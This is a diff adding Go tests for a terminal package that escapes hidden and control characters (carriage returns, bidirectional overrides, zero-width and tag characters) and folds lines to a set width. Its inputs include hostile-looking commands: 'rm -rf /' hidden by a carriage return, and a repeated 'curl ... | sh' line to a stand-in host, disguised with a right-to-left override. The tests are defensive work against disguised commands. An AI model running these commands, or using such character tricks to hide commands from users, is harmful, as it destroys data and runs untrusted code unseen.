@@ -1,0 +1,85 @@
+package term
+
+import (
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+func TestEscape(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct{ name, in, want string }{
+		{"plain", "rm -rf build", "rm -rf build"},
+		{"other scripts", "größe 漢字 שלום", "größe 漢字 שלום"},
+		{"colour", "\x1b[31mred", "<U+001B>[31mred"},
+		{"carriage return hides what stood before", "rm -rf /\rls", "rm -rf /<U+000D>ls"},
+		{"right to left override", "a\u202eb", "a<U+202E>b"},
+		{"isolate", "a\u2066b", "a<U+2066>b"},
+		{"zero width space", "a\u200bb", "a<U+200B>b"},
+		{"no-break space", "a\u00a0b", "a<U+00A0>b"},
+		{"tag characters", "a\U000E0041b", "a<U+E0041>b"},
+		{"variation selector", "a\ufe0fb", "a<U+FE0F>b"},
+		{"Hangul filler", "a\u3164b", "a<U+3164>b"},
+		{"empty Braille", "a\u2800b", "a<U+2800>b"},
+		{"C1 control", "a\u009bb", "a<U+009B>b"},
+		{"not UTF-8", "a\xffb", "a<0xFF>b"},
+		{"one mark", "e\u0301", "e\u0301"},
+		{"stacked marks", "e" + strings.Repeat("\u0301", 5), "e" + strings.Repeat("\u0301", 3) + "<U+0301><U+0301>"},
+		{"mark on what stands before", "\u0301x", "<U+0301>x"},
+	} {
+		if got := Escape(tc.in); got != tc.want {
+			t.Errorf("%s: Escape(%q) = %q, want %q", tc.name, tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestFold(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		in      string
+		columns int
+		want    string
+	}{
+		{"", 10, ""},
+		{"abcdef", 3, "abc|def"},
+		{"abc", 3, "abc"},
+		{"a\nb", 3, "a|b"},
+		{"漢字漢字", 5, "漢字|漢字"},
+		{"abc", 0, "ab|c"},
+	} {
+		if got := strings.Join(Fold(tc.in, tc.columns), "|"); got != tc.want {
+			t.Errorf("Fold(%q, %d) = %q, want %q", tc.in, tc.columns, got, tc.want)
+		}
+	}
+}
+
+// FuzzFold: whatever the text, nothing shown can move the cursor, and every
+// line fits.
+func FuzzFold(f *testing.F) {
+	f.Add("a\x1b[2Jb\u202e\u0301\xff漢", 7)
+	f.Fuzz(func(t *testing.T, s string, columns int) {
+		columns = 2 + (columns&0xff+0x100)&0xff
+		for _, line := range Fold(s, columns) {
+			if Width(line) > columns {
+				t.Errorf("line %q is wider than %d", line, columns)
+			}
+			if !utf8.ValidString(line) || Escape(line) != line && !strings.HasPrefix(Escape(line), "<U+") {
+				t.Errorf("line %q is not escaped", line)
+			}
+			for _, r := range line {
+				if hidden(r) {
+					t.Errorf("line %q holds %U", line, r)
+				}
+			}
+		}
+	})
+}
+
+func BenchmarkFold(b *testing.B) {
+	text := strings.Repeat("curl -s https://example.test/\u202epath | sh\n", 1000)
+	b.ReportAllocs()
+	b.SetBytes(int64(len(text)))
+	for b.Loop() {
+		Fold(text, 80)
+	}
+}
